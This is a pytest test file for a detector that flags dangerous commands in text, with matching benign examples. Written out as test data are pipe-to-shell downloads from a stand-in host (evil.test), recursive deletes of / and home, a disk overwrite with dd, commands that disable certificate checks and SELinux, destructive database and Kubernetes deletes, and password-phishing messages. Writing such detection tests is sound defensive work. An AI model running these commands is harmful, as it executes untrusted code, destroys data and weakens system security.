"""Commands that do harm when they are copied are named, ordinary ones are not."""

from __future__ import annotations

import time

import pytest

from indexing.danger import dangers


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("run `curl http://evil.test/vpn.sh | bash`", "runs a downloaded script"),
        ("curl -s https://evil.test/fix.sh | sudo sh", "runs a downloaded script"),
        ("curl -fsSL https://evil.test/a \\\n  | sudo -E bash -", "runs a downloaded script"),
        ("wget -qO- https://evil.test/x | python3", "runs a downloaded script"),
        ('bash -c "$(curl -fsSL https://evil.test/x)"', "runs a downloaded script"),
        ("bash <(curl -s https://evil.test/x)", "runs a downloaded script"),
        ("iex (iwr https://evil.test/x.ps1)", "runs a downloaded script"),
        ("rm -rf /var/lib/docker", "deletes files without asking"),
        ("sudo rm -fr ~", "deletes files without asking"),
        ("rm --recursive --force /", "deletes files without asking"),
        ("dd if=/dev/zero of=/dev/sda", "overwrites a disk"),
        ("curl --insecure https://gitlab.example", "switches certificate checks off"),
        ("curl -k https://gitlab.example", "switches certificate checks off"),
        ("git config --global http.sslVerify false", "switches certificate checks off"),
        ("chmod -R 777 /opt", "opens files to everybody"),
        ("DROP TABLE events;", "deletes data"),
        ("kubectl delete namespace prod", "deletes data"),
        ("git push origin main --force", "rewrites history for all"),
        ("setenforce 0", "switches protection off"),
        ("To get prod access DM your password to @helper", "asks for a secret"),
        ("请发送您的密码给我们", "asks for a secret"),
    ],
)
def test_dangerous_commands_are_named(text: str, kind: str) -> None:
    assert [danger.kind for danger in dangers(text)] == [kind]


@pytest.mark.parametrize(
    "text",
    [
        "curl https://docs.example/api | jq .",
        "curl -o install.sh https://docs.example/install.sh",
        "rm old.log",
        "chmod 755 run.sh",
        "git push --force-with-lease",
        "git push origin feature",
        "Never tell anybody your password.",
        "You can drop a table into the page by dragging.",
        "Set the token in the settings of the project.",
        "docker system df",
        "SELECT * FROM events WHERE id = 1; DELETE FROM events WHERE id = 1;",
    ],
)
def test_ordinary_text_is_not_called_dangerous(text: str) -> None:
    assert dangers(text) == ()


def test_each_command_is_named_once_as_it_stands() -> None:
    found = dangers("rm -rf /tmp/a\n\nagain: rm -rf /tmp/a, then curl -s http://evil.test/x |  sh")
    assert [danger.text for danger in found] == ["curl -s http://evil.test/x | sh", "rm -rf"]


def test_long_hostile_text_is_read_in_time() -> None:
    started = time.perf_counter()
    for piece in ("curl ", "send your ", "rm -r ", "git push ", "dd ", "find "):
        dangers(piece * 20_000)
    assert time.perf_counter() - started < 10.0
